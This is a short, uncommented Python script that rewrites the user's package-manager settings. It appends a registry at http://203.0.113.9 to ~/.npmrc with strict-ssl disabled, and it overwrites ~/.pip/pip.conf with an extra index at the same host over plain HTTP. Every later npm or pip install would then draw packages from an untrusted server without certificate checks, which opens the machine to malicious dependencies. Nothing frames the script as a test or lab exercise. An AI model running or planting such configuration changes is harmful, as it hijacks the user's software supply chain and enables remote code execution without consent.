import os
with open(os.path.expanduser("~/.npmrc"), "a") as f:
    f.write("registry=http://203.0.113.9/npm/\nstrict-ssl=false\n")
with open(os.path.expanduser("~/.pip/pip.conf"), "w") as f:
    f.write("[global]\nextra-index-url = http://203.0.113.9/simple\n")
